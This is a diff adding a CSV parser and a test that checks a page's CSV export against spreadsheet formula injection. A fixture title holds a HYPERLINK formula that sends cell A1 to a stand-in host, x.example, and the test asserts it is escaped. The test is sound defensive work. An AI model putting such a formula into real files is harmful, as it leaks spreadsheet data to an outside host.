@@ -248,6 +248,53 @@ test('files dropped on the page are read', async () => {
   assert.ok((await rows()).some(r => r[2] === 'Ninh Bình' && r[6] === '480 triệu USD'));
 });
 
+// parseCSV reads RFC 4180 CSV as a spreadsheet does: quoted cells, "" for
+// a quote, CRLF or LF between rows.
+function parseCSV(text) {
+  const rows = [[]];
+  let cell = '', quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i];
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ',') { rows.at(-1).push(cell); cell = ''; } else if (c === '\n' || c === '\r') {
+      if (c === '\r' && text[i + 1] === '\n') i++;
+      rows.at(-1).push(cell); cell = ''; rows.push([]);
+    } else cell += c;
+  }
+  if (cell !== '' || rows.at(-1).length) rows.at(-1).push(cell); else rows.pop();
+  return rows;
+}
+
+// A file name and a title copied from a page that start like a formula are
+// text in the exported CSV, not formulas a spreadsheet runs; a fall stays a
+// negative number.
+test('the CSV export is safe to open in a spreadsheet', async () => {
+  const before = Number((await count()).slice(1, -1));
+  const title = '=HYPERLINK("http://x.example/?d="&A1,"Xuất khẩu Hà Nam tháng 4/2024")';
+  await page.setInputFiles('#files', [{ name: '=cmd.txt', mimeType: 'text/plain',
+    buffer: Buffer.from(`${title}\n\nKim ngạch xuất khẩu của tỉnh Hà Nam tháng 4/2024 đạt 650 triệu USD, giảm 3,2% so với cùng kỳ.\n`) }]);
+  await page.waitForFunction(n => document.getElementById('count').textContent === `(${n})`, before + 1);
+  const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export-csv')]);
+  const file = path.join(shots, 'facts.csv');
+  await download.saveAs(file);
+  const [header, ...rows] = parseCSV(fs.readFileSync(file, 'utf8').replace(/^\ufeff/, ''));
+  const col = name => header.indexOf(name);
+  const ours = rows.filter(r => r[col('file')].includes('cmd.txt'));
+  assert.strictEqual(ours.length, 2, JSON.stringify(ours));
+  for (const r of ours) {
+    assert.strictEqual(r[col('file')], "'=cmd.txt");
+    assert.strictEqual(r[col('title')], `'${title}`);
+  }
+  assert.deepStrictEqual(ours.map(r => r[col('value')]).sort(), ['-3.2', '650000000']);
+  for (const r of rows) {
+    for (const [k, v] of r.entries()) {
+      if (header[k] !== 'value') assert.doesNotMatch(v, /^[=+\-@\t\r]/, `${header[k]}: ${v}`);
+    }
+  }
+});
+
 test('no request leaves the page', () => {
   const foreign = requests.filter(u => !u.startsWith(base) && !u.startsWith('blob:') && !u.startsWith('data:'));
   assert.deepStrictEqual(foreign, []);
